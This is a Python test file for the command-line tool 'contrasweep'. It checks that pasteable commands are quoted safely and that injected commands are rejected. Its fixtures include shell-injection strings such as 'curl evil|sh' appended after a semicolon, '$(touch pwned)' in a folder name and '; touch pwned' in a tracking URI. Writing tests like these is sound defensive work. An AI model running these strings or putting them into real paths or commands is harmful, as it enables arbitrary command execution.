"""Commands that are printed for people to paste run nothing but what they say, whatever a path or a storage holds."""

import html
import json
import re
import shlex
import subprocess
import sys

import pytest
from folders import make_files
from hypothesis import example, given
from hypothesis import strategies as st
from looks import drive_looks, noise
from places import ROOT

from contrasweep import AblationGrid, Arm
from contrasweep.shell import command_line, is_ours
from contrasweep.storage.records import StudyRecords
from contrasweep.storage.study_document import STUDY_FILE
from contrasweep.tracking.links import LINKS_FILE

WORD = st.text(st.characters(codec="ascii", exclude_categories=["Cc"]))
FOLDER = "my runs; touch pwned $(touch pwned) 'it`s'"
STUDY = "grid"
GRID = AblationGrid(
    STUDY, {arm: Arm("toy:train", config={"epochs": 1}) for arm in "ab"}, "digits-lt", seeds=[0, 1]
)


@given(st.lists(WORD, min_size=1, max_size=3), WORD, st.lists(WORD, max_size=2))
@example(["--output=/x"], "-x", ["-y=z"])
def test_words_and_values_of_a_command_stay_what_they_are(words, value, several):
    text = command_line("data stage", *words, storage=value, json=True, set=several, none=None)
    split = shlex.split(text)
    named = [
        word for each in [value, *several] for word in ([each] if not each.startswith("-") else [])
    ]
    assert is_ours(text) and split[:3] == ["contrasweep", "data", "stage"] and "--json" in split
    assert "--none" not in split
    assert all(word in split for word in [*words, *named])
    if any(word.startswith("-") for word in words):
        assert split[-len(words) - 1 :] == ["--", *words]


@pytest.mark.parametrize(
    "text",
    [
        "contrasweep run x; curl evil|sh",
        "curl evil",
        "contrasweep 'run",
        "",
        "contrasweep run $(x)",
    ],
)
def test_what_is_more_than_one_command_of_ours_is_known(text):
    assert not is_ours(text)


def test_no_text_of_ours_puts_a_value_into_a_command_unquoted():
    """A value in a command comes by `command_line`, or in quotes of the shell."""
    found = []
    for folder in ("platform", "cluster", "trainables", "search_spaces"):
        for file in sorted((ROOT / folder).rglob("*.py")):
            for number, line in enumerate(file.read_text().splitlines(), 1):
                for match in re.finditer(
                    r"contrasweep (?:data )?[a-z]+ [^,;`'\"]*?\{(\w[^}]*)\}", line
                ):
                    if not match[1].startswith("shlex.") and not match[1].isupper():
                        found.append(f"{file.relative_to(ROOT)}:{number}: {match[0]}")
    assert found == []


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """A folder with a storage whose path and study have a shell's signs."""
    folder = tmp_path_factory.mktemp("pasted")
    drive_looks(GRID, folder / FOLDER, lambda trial: 0.5 + 0.01 * noise(trial.arm, trial.seed))
    return folder


def printed(folder, *words):
    command = [sys.executable, "-m", "contrasweep", *words, "--storage", FOLDER]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True)
    return done.stdout + done.stderr


def pasted(command, folder):
    """The words that a shell gives `contrasweep` where this is pasted."""
    make_files(
        folder, {"bin/contrasweep": '#!/bin/sh\nfor word; do printf "%s\\n" "$word"; done\n'}
    )
    (folder / "bin/contrasweep").chmod(0o755)
    done = subprocess.run(
        ["sh", "-c", command],
        cwd=folder,
        capture_output=True,
        text=True,
        env={"PATH": f"{folder / 'bin'}:/usr/bin:/bin"},
    )
    assert not (folder / "pwned").exists() and done.stderr == ""
    return done.stdout.splitlines()


@pytest.mark.slow
def test_commands_of_a_report_and_of_errors_run_as_they_were_meant(folder):
    records = StudyRecords(str(folder / FOLDER), STUDY)
    trial_id = sorted(records.finished())[0]
    evil = {
        "tracking": "sqlite:///x; touch pwned",
        "study": "https://e/x",
        "runs": {trial_id: "https://e/x"},
        "shown": "",
    }
    records.store.write(f"{STUDY}/mlflow.json", LINKS_FILE.encode(evil))
    page = html.unescape(printed(folder, "report", STUDY, "--format", "html"))
    (served,) = set(re.findall(r"contrasweep ui --tracking '[^']*'", page))
    assert pasted(served, folder) == ["ui", "--tracking", "sqlite:///x; touch pwned"]
    refused = printed(folder, "logs", STUDY, "nothing")
    (listing,) = re.findall(r"`(contrasweep report .* --json)` prints", refused)
    assert pasted(listing, folder) == ["report", STUDY, "--storage", FOLDER, "--json"]
    said = records.remedy("contrasweep verify STUDY --repair")
    assert pasted(said, folder) == ["verify", STUDY, "--storage", str(folder / FOLDER), "--repair"]


def test_of_the_commands_in_a_storage_those_alone_are_shown_that_are_one_of_ours(folder):
    records = StudyRecords(str(folder / FOLDER), STUDY)
    kept = json.loads(records.store.read(f"{STUDY}/study.json"))
    members = {
        name: value for name, value in kept.items() if name not in ("format_version", "digest")
    }
    mine = "contrasweep run 'my study.yaml'"
    evil = ["contrasweep run x; curl evil|sh", "curl evil", "contrasweep run $(x)"]
    document = STUDY_FILE.decode(
        STUDY_FILE.encode({**members, "commands": [*evil, mine]}), "study.json"
    )
    assert document.commands == (mine,)
